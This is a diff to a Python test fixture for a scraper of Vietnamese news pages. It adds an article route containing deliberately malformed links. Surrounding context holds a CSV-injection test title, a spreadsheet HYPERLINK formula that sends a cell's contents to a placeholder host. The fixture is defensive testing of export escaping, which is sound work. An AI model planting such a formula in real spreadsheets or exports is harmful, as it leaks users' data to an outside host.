@@ -42,6 +42,7 @@ CASES = {
     "/tin-tuc/loi-503-roi-duoc-1006.html": "emit",
     "/tin-tuc/may-chu-cham-1007.html": "emit",
     "/tin-tuc/tieu-de-cong-thuc-1008.html": "emit",
+    "/tin-tuc/lien-ket-hong-1009.html": "emit",
     "/tin-tuc/trong-rong-1010.html": "empty",
     "/tin-tuc/khong-co-noi-dung-1011.html": "too_little_text",
     "/tin-tuc/mojibake-1012.html": "bad_encoding",
@@ -60,6 +61,10 @@ CASES = {
 }
 # A title a spreadsheet would run as a formula (CSV injection), sending a cell away.
 FORMULA_TITLE = '=HYPERLINK("http://thu-nghiem.invalid/?d="&B2,"Xem chi tiết")'
+# Links no URL parser takes: a port out of range, an unclosed IPv6 host.
+BROKEN_LINKS = ("<p>Xem <a href='http://127.0.0.1:99999/tin-tuc/a-1.html'>chi tiết</a>, "
+                "<a href='http://[::1:8/tin-tuc/b-2.html'>tại đây</a> và "
+                "<a href='https://[bad host]/c-3.html'>đây</a>.</p>")
 # Links that are the same article as binh-thuong-1001 under other URLs.
 ALIASES = ["/tin-tuc/binh-thuong-1001.html?utm_source=zalo&utm_medium=share",
            "/tin-tuc/binh-thuong-1001.html;jsessionid=8F2A0C1B",
@@ -247,6 +252,8 @@ ROUTES = {
     "/tin-tuc/loi-503-roi-duoc-1006.html": _flaky,
     "/tin-tuc/may-chu-cham-1007.html": _slow,
     "/tin-tuc/tieu-de-cong-thuc-1008.html": _normal(FORMULA_TITLE),
+    "/tin-tuc/lien-ket-hong-1009.html": lambda h, p: h.send(200, article(
+        "Công khai kết quả giải quyết hồ sơ", extra=BROKEN_LINKS).encode("utf-8")),
     "/tin-tuc/trong-rong-1010.html": lambda h, p: h.send(200, b""),
     "/tin-tuc/khong-co-noi-dung-1011.html": lambda h, p: h.send(
         200, article("Ảnh hoạt động", body="Ảnh: Minh Anh").encode("utf-8")),
